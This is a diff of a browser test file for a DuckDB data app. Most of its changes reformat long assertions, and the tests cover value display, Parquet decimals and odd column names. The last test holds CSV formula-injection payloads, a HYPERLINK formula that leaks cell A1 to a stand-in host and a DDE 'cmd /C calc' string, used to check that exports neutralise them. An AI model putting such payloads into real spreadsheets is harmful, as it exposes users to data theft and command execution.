@@ -45,8 +45,26 @@ test('BIGINT beyond 2^53, HUGEINT, DATE, TIMESTAMP, INTERVAL, LIST, STRUCT and M
     page,
     "SELECT 9007199254740993::BIGINT AS besar, 170141183460469231731687303715884105727::HUGEINT AS huge, DATE '2024-03-05' AS tgl, TIMESTAMP '2024-03-05 12:34:56.5' AS waktu, INTERVAL '1 year 2 days 03:00:00' AS selang, [1, 2] AS daftar, {'a': 1, 'b': 'x'} AS rek, MAP {'k': 1} AS peta"
   );
-  expect(await firstRow(page)).toEqual(['9.007.199.254.740.993', '170.141.183.460.469.231.731.687.303.715.884.105.727', '2024-03-05', '2024-03-05 12:34:56.5', '1 year 2 days 03:00:00', '[1, 2]', "{'a': 1, 'b': x}", '{k=1}']);
-  expect((await downloadCsv(page))[1]).toEqual(['9007199254740993', '170141183460469231731687303715884105727', '2024-03-05', '2024-03-05 12:34:56.5', '1 year 2 days 03:00:00', '[1, 2]', "{'a': 1, 'b': x}", '{k=1}']);
+  expect(await firstRow(page)).toEqual([
+    '9.007.199.254.740.993',
+    '170.141.183.460.469.231.731.687.303.715.884.105.727',
+    '2024-03-05',
+    '2024-03-05 12:34:56.5',
+    '1 year 2 days 03:00:00',
+    '[1, 2]',
+    "{'a': 1, 'b': x}",
+    '{k=1}'
+  ]);
+  expect((await downloadCsv(page))[1]).toEqual([
+    '9007199254740993',
+    '170141183460469231731687303715884105727',
+    '2024-03-05',
+    '2024-03-05 12:34:56.5',
+    '1 year 2 days 03:00:00',
+    '[1, 2]',
+    "{'a': 1, 'b': x}",
+    '{k=1}'
+  ]);
   expectClean(watch);
 });
 
@@ -54,7 +72,9 @@ test('a dropped Parquet DECIMAL(10,2) 1.50 is 1,5 (not 150) and its dates are da
   const dir = mkdtempSync(join(tmpdir(), 'dampak-dec-'));
   const file = join(dir, 'nominal_desimal.parquet');
   const conn = await (await DuckDBInstance.create(':memory:')).connect();
-  await conn.run(`COPY (SELECT 'Kota Batu' AS wilayah, 1.50::DECIMAL(10,2) AS nominal, DATE '2024-01-31' AS tanggal, TIMESTAMP '2024-01-31 08:00:00' AS waktu) TO '${file}' (FORMAT parquet)`);
+  await conn.run(
+    `COPY (SELECT 'Kota Batu' AS wilayah, 1.50::DECIMAL(10,2) AS nominal, DATE '2024-01-31' AS tanggal, TIMESTAMP '2024-01-31 08:00:00' AS waktu) TO '${file}' (FORMAT parquet)`
+  );
   await page.goto('/data');
   await page.getByTestId('file-input').setInputFiles(file);
   await page.getByTestId('upload-register').click();
@@ -71,7 +91,10 @@ test('repeated and hostile column names stay apart in the grid and the CSV', asy
   await open(page, 'SELECT 1 AS a, 2 AS a, 3 AS "__proto__", 4 AS "constructor", 5 AS "toString"');
   expect((await headers(page)).slice(1)).toEqual(['a', 'a_1', '__proto__', 'constructor', 'toString']);
   expect(await firstRow(page)).toEqual(['1', '2', '3', '4', '5']);
-  expect(await downloadCsv(page)).toEqual([['a', 'a_1', '__proto__', 'constructor', 'toString'], ['1', '2', '3', '4', '5']]);
+  expect(await downloadCsv(page)).toEqual([
+    ['a', 'a_1', '__proto__', 'constructor', 'toString'],
+    ['1', '2', '3', '4', '5']
+  ]);
   expectClean(watch);
 });
 
@@ -104,7 +127,10 @@ test('a link of more than 8 KB opens, runs on Run, and survives a reload (the qu
 });
 
 test('the result CSV neutralises spreadsheet formulas', async ({ page, watch }) => {
-  await open(page, `SELECT '=HYPERLINK("http://x.example/?"&A1,"klik")' AS f, '+cmd|'' /C calc''!A0' AS g, '@SUM(A1:A9)' AS h, '-2+3+cmd|x' AS i, -5 AS n, '-5' AS s`);
+  await open(
+    page,
+    `SELECT '=HYPERLINK("http://x.example/?"&A1,"klik")' AS f, '+cmd|'' /C calc''!A0' AS g, '@SUM(A1:A9)' AS h, '-2+3+cmd|x' AS i, -5 AS n, '-5' AS s`
+  );
   const [head, row] = await downloadCsv(page);
   expect(head).toEqual(['f', 'g', 'h', 'i', 'n', 's']);
   expect(row).toEqual([`'=HYPERLINK("http://x.example/?"&A1,"klik")`, "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3+cmd|x", '-5', '-5']);
